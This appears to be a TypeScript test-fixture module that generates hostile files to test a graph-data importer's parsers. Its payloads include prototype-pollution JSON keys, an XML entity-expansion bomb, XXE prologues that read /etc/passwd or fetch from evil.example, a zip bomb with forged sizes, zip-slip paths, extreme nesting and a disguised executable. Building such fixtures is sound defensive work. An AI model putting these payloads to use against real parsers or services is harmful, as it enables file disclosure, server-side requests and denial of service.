import { zipSync } from 'fflate';
import type { HostileFile } from './damaged-files.ts';
import { HARMLESS } from './hostile-words.ts';
import { plainDataset } from './plain-dataset.ts';
import { bytesOf } from './small-file.ts';
import { SMALL_FILES } from './small-files.ts';

const DEEP = 10_000;

const file = (name: string, about: string, content: string | Uint8Array): HostileFile => ({
  name,
  about,
  bytes: bytesOf(content),
});

/** Keys that reach the prototype where objects are copied key by key. */
const POISON =
  '"__proto__":{"polluted":true,"toString":null},"constructor":{"prototype":{"polluted":true}},"prototype":{"polluted":true},';

/** JSON in which every object begins with such keys, or holds every key twice. */
function spoilObjects(value: unknown, spoil: 'poison' | 'double'): string {
  if (Array.isArray(value)) return `[${value.map((item) => spoilObjects(item, spoil)).join(',')}]`;
  if (typeof value !== 'object' || value === null) return JSON.stringify(value);
  const fields = Object.entries(value).map(
    ([key, item]) => `${JSON.stringify(key)}:${spoilObjects(item, spoil)}`,
  );
  if (spoil === 'poison')
    return `{${fields.length === 0 ? POISON.slice(0, -1) : POISON}${fields.join(',')}}`;
  return `{${[...fields, ...fields].join(',')}}`;
}

/** JSON in which the value at one place after the other is nested far too deep, or of another kind. */
function* replaceEach(value: unknown, replacement: string): Generator<string> {
  yield replacement;
  if (Array.isArray(value)) {
    for (const [index, item] of value.entries()) {
      const rest = value.map((other) => JSON.stringify(other));
      for (const text of replaceEach(item, replacement)) {
        yield `[${rest.with(index, text).join(',')}]`;
      }
    }
  } else if (typeof value === 'object' && value !== null) {
    const entries = Object.entries(value);
    for (const [key, item] of entries) {
      for (const text of replaceEach(item, replacement)) {
        const fields = entries.map(
          ([other, kept]) =>
            `${JSON.stringify(other)}:${other === key ? text : JSON.stringify(kept)}`,
        );
        yield `{${fields.join(',')}}`;
      }
    }
  }
}

const jsonFiles = SMALL_FILES.filter(({ write }) => {
  const content = write(HARMLESS);
  return typeof content === 'string' && /^[{[]/.test(content);
});
const valuesOf = (text: string): readonly unknown[] =>
  text
    .split('\n')
    .filter((line) => line !== '')
    .map((line): unknown => JSON.parse(line));

const spoiltObjects = (): readonly HostileFile[] =>
  jsonFiles.flatMap(({ name, write }) => {
    const values = valuesOf(String(write(HARMLESS)));
    return (['poison', 'double'] as const).map((spoil) =>
      file(name, `${spoil} in every object`, values.map((v) => spoilObjects(v, spoil)).join('\n')),
    );
  });

/** Values of another kind than any reader waits for. */
const STRANGE_VALUES: readonly string[] = [
  'null',
  'true',
  '-1.5e300',
  '[]',
  '{}',
  '""',
  '[[["x"]]]',
  '{"length":4294967295}',
  '{"__proto__":["x"]}',
];

const replacedValues = (): readonly HostileFile[] =>
  jsonFiles.flatMap(({ name, write }) => {
    const [first, ...rest] = valuesOf(String(write(HARMLESS)));
    const after = rest.map((value) => `\n${JSON.stringify(value)}`).join('');
    return STRANGE_VALUES.flatMap((strange) =>
      [...replaceEach(first, strange)].map((text, index) =>
        file(name, `${strange} at place ${index}`, text + after),
      ),
    );
  });

const deepJson = (): readonly HostileFile[] => {
  const lists = `${'['.repeat(DEEP)}${']'.repeat(DEEP)}`;
  const objects = `${'{"a":'.repeat(DEEP)}1${'}'.repeat(DEEP)}`;
  return [
    file('deep.json', 'lists in lists', lists),
    file('deep.json', 'objects in objects', objects),
    file('open.json', 'lists that never end', '['.repeat(DEEP * 10)),
    ...jsonFiles.flatMap(({ name, write }) => {
      const [first, ...rest] = valuesOf(String(write(HARMLESS)));
      const after = rest.map((value) => `\n${JSON.stringify(value)}`).join('');
      const places = [...replaceEach(first, lists)];
      return [places[1], places[places.length >> 1], places.at(-1)].flatMap((text, index) =>
        text === undefined ? [] : [file(name, `deep at place ${index}`, text + after)],
      );
    }),
  ];
};

const BOMB = `<!DOCTYPE bomb [<!ENTITY a "aaaaaaaaaa">${[...'bcdefghij']
  .map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghi'[index]};`.repeat(10)}">`)
  .join('')}]>`;
const PROLOGUES: readonly (readonly [about: string, text: string])[] = [
  ['entities in entities', BOMB],
  ['an external entity', '<!DOCTYPE x [<!ENTITY j SYSTEM "file:///etc/passwd">]>'],
  ['an entity of another server', '<!DOCTYPE x [<!ENTITY j SYSTEM "https://evil.example/x">]>'],
  ['a parameter entity', '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>'],
  ['an external definition', '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">'],
  ['a style sheet', '<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>'],
];

const xmlFiles = (): readonly HostileFile[] =>
  SMALL_FILES.filter(({ format }) =>
    ['graphml', 'gexf', 'xgmml', 'figure-svg'].includes(format),
  ).flatMap(({ name, write }) => {
    const good = String(write({ ...HARMLESS, note: '&j;' })).replace(/^<\?xml[^>]*>\s*/, '');
    const raw = good.replaceAll('&amp;j;', '&j;');
    const [, element = ''] = /^<(\w+)/.exec(good) ?? [];
    return [
      ...PROLOGUES.map(([about, text]) => file(name, about, `<?xml version="1.0"?>${text}${raw}`)),
      file(name, 'an unknown entity', raw),
      file(name, 'elements in elements', good.replace('>', `>${`<${element}>`.repeat(DEEP)}`)),
      file(
        name,
        'nodes in nodes',
        good.replace('<node', `${'<node id="x"><graph>'.repeat(DEEP)}<node`),
      ),
      file(
        name,
        'numbers of no character',
        good.replace('Alpha', '&#0;&#xFFFE;&#xD800;&#x110000;'),
      ),
      file(
        name,
        'an include',
        good.replace(
          '>',
          '><xi:include href="https://evil.example/x" xmlns:xi="http://www.w3.org/2001/XInclude"/>',
        ),
      ),
      file(
        name,
        'attributes by the thousand',
        good.replace(
          /^<\w+/,
          (tag) =>
            `${tag} ${Array.from({ length: 20_000 }, (_, index) => `a${index}=""`).join(' ')}`,
        ),
      ),
      file(name, 'the encoding of another file', `<?xml version="1.0" encoding="UTF-32"?>${good}`),
      file(
        name,
        'keys of the prototype',
        good.replaceAll('colour', '__proto__').replaceAll('"a"', '"constructor"'),
      ),
    ];
  });

const tables = (): readonly HostileFile[] => [
  file('wide.csv', 'more columns than can be held', `${'x,'.repeat(5_000)}\n`),
  file('wide.csv', 'one row that is far too wide', `source,target\na,b${',c'.repeat(500_000)}\n`),
  file(
    'long.csv',
    'a field of a million letters and more',
    `source,target,note\na,b,${'x'.repeat(1_000_001)}\n`,
  ),
  file(
    'open.csv',
    'a quotation mark that never closes',
    `source,target\n"a,b\n${'x,y\n'.repeat(5_000)}`,
  ),
  file('quotes.csv', 'only quotation marks', '"'.repeat(300_001)),
  file('lines.csv', 'only ends of lines', '\r'.repeat(300_000)),
  file(
    'columns.csv',
    'columns of one name',
    `source,target${',source'.repeat(500)}\na,b${',c'.repeat(500)}\n`,
  ),
  file(
    'poison.csv',
    'columns of the prototype',
    'source,target,__proto__,constructor,toString\na,b,1,2,3\n__proto__,constructor,1,2,3\n',
  ),
  file(
    'rows.csv',
    'rows that are all different in width',
    `source,target\n${Array.from({ length: 300 }, (_, index) => `a${',b'.repeat(index)}`).join('\n')}`,
  ),
  file(
    'loop.csv',
    'parts of each other',
    'Id,Label,Kind,Group label,Part of,Identifiers\na,A,state,,b,\nb,B,state,,a,\n',
  ),
  file('graph.net', 'more vertices than there are', '*Vertices 999999999\n'),
  file('graph.dl', 'a matrix without end', 'dl n=99999999 format=fullmatrix\ndata:\n0 1\n'),
  file('graph.gml', 'lists in lists', 'graph [ '.repeat(DEEP)),
  file('graph.gml', 'a text that never closes', `graph [ label "${'x'.repeat(300_000)}`),
];

const nodes = (parents: readonly string[]) =>
  parents.map((parent, index) => ({ id: `n${index}`, parent }));
const ring = Array.from({ length: 100 }, (_, index) => `n${(index + 1) % 100}`);
const chain = Array.from({ length: 5_000 }, (_, index) => `n${index + 1}`);

function changedDataset(change: (dataset: ReturnType<typeof plainDataset>) => object): string {
  const dataset = plainDataset(HARMLESS);
  return JSON.stringify({ ...dataset, ...change(dataset) });
}
const actor = (id: string, partOf?: string) => ({ id, name: id, kind: 'state', partOf });
const document = (id: string, derivedFrom: readonly string[]) => ({
  id,
  title: id,
  publisher: id,
  language: 'en',
  kind: 'other',
  derivedFrom,
});

const loops = (): readonly HostileFile[] => [
  file(
    'ring.json',
    'nodes that stand in each other',
    JSON.stringify({ nodes: nodes(ring), links: [] }),
  ),
  file('chain.json', 'nodes in nodes', JSON.stringify({ nodes: nodes(chain), links: [] })),
  file(
    'ring.cyjs',
    'groups that stand in each other',
    JSON.stringify({ elements: { nodes: nodes(ring).map((data) => ({ data })), edges: [] } }),
  ),
  file(
    'ring.gexf',
    'nodes that stand in each other',
    `<gexf><graph><nodes><node id="a" pid="b"/><node id="b" pid="a"/><node id="c" pid="c"/></nodes></graph></gexf>`,
  ),
  file(
    'ring.faultlines.json',
    'parts of each other',
    changedDataset(() => ({ actors: [actor('a', 'b'), actor('b', 'a')] })),
  ),
  file(
    'self.faultlines.json',
    'a part of itself',
    changedDataset(() => ({ actors: [actor('a', 'a'), actor('b')] })),
  ),
  file(
    'chain.faultlines.json',
    'parts of parts',
    changedDataset(() => ({
      actors: [
        actor('a'),
        actor('b'),
        ...chain.map((id, index) => actor(`n${index}`, index === 4_999 ? undefined : id)),
      ],
    })),
  ),
  file(
    'copies.faultlines.json',
    'documents that derive from each other',
    changedDataset(() => ({ documents: [document('doc', ['two']), document('two', ['doc'])] })),
  ),
  file(
    'doubles.faultlines.json',
    'ids that come twice',
    changedDataset(({ actors, documents, relationships }) => ({
      actors: [actors, actors].flat(),
      documents: [documents, documents].flat(),
      relationships: [relationships, relationships].flat(),
    })),
  ),
  file(
    'many.faultlines.json',
    'mistakes by the thousand',
    changedDataset(() => ({ actors: Array.from({ length: 2_000 }, () => ({})) })),
  ),
];

const zeros = (size: number): Uint8Array => new Uint8Array(size);

/** Small archives of much; each stays below what a test can hold. */
const archives = (): readonly HostileFile[] => {
  const bomb = zipSync({
    'xl/workbook.xml': zeros(5_000_000),
    'xl/worksheets/sheet1.xml': zeros(5_000_000),
  });
  const lie = bomb.slice();
  // The size that the directory states, of the first part: 4 GB less one byte.
  const directory = lie.findIndex(
    (_, at) => lie[at] === 0x50 && lie[at + 1] === 0x4b && lie[at + 2] === 1 && lie[at + 3] === 2,
  );
  lie.set([255, 255, 255, 254], directory + 24);
  const small = bomb.slice();
  small.set([1, 0, 0, 0], directory + 24);
  return [
    file('bomb.xlsx', 'much of nothing', bomb),
    file('lie.xlsx', 'a size of four gigabytes', lie),
    file('small.xlsx', 'a size that is too small', small),
    file('empty.xlsx', 'an archive of nothing', zipSync({})),
    file(
      'path.xlsx',
      'paths out of the archive',
      zipSync({ '../../xl/workbook.xml': zeros(3), '/etc/passwd.xml': zeros(3) }),
    ),
    file('other.zip', 'an archive of something else', zipSync({ 'readme.txt': bytesOf('x') })),
    file(
      'poison.xlsx',
      'parts named for the prototype',
      zipSync({
        '__proto__.xml': zeros(3),
        'constructor.rels': zeros(3),
        'xl/workbook.xml': bytesOf('<workbook/>'),
      }),
    ),
  ];
};

/** Files that no format knows. */
const unknown = (): readonly HostileFile[] => [
  file(
    'page.html',
    'a page that is no figure',
    '<!doctype html><script>window.__hacked=12</script>',
  ),
  file('text.txt', 'prose', 'There is nothing here that could be read as a graph'),
  file('empty', 'nothing', ''),
  file('\u202egpj.exe', 'a name that turns around', 'MZ\u0000'),
  file('a.docx', 'a program', Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1])),
  file('x.json', 'a number', '7'),
];

/** Files built to exhaust, to loop, to reach prototypes or other servers. */
export const hostileStructures = (): readonly HostileFile[] => [
  ...spoiltObjects(),
  ...replacedValues(),
  ...deepJson(),
  ...xmlFiles(),
  ...tables(),
  ...loops(),
  ...archives(),
  ...unknown(),
];
